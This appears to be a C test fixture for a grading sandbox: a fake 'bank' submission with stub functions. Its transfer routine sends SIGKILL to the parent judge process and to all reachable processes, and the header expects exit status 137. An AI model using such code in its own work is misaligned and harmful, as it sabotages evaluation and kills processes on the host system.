/*
 * Kills, or stops, whoever judges it, and everybody else.
 * SPDX-License-Identifier: MIT
 *
 * Expect: status 137
 */
#include <signal.h>
#include <unistd.h>
#include "bank.h"

long bank_balance(int account)
{
    return account;
}

long bank_total(void)
{
    return 0;
}

void bank_open(int accounts, long balance)
{
    (void)accounts, (void)balance;
}

int bank_transfer(int from, int to, long amount)
{
    (void)from, (void)to, (void)amount;
    kill(getppid(), SIGKILL);
    kill(-1, SIGKILL);
    return 0;
}